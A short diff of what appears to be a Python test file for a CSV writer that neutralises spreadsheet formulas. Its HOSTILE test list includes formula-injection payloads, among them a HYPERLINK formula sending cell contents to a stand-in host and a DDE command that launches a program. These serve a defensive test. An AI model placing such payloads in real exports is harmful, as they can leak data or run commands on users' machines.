@@ -26,7 +26,7 @@ from trygghet import cli, free_text, pipeline, report_promises
 from trygghet.config import Project
 from trygghet.writers import FORMULA_PREFIXES, neutralise, neutralise_frame, write_csv
 
-ROOT = Path(__file__).resolve().parents[1]
+ROOT = Path(__file__).resolve().parents[1] / "examples" / "trollhattan"  # the example workspace
 HOSTILE = ['=HYPERLINK("http://x.example/?d="&A1,"Klicka här")', "+46 70 123 45 67", "-1+1",
            "@SUM(A1)", "\t=1", "\r=1", "=cmd|' /C calc'!A0"]
 # A CR cannot travel inside a CSV export: the loader reads it as a line end.
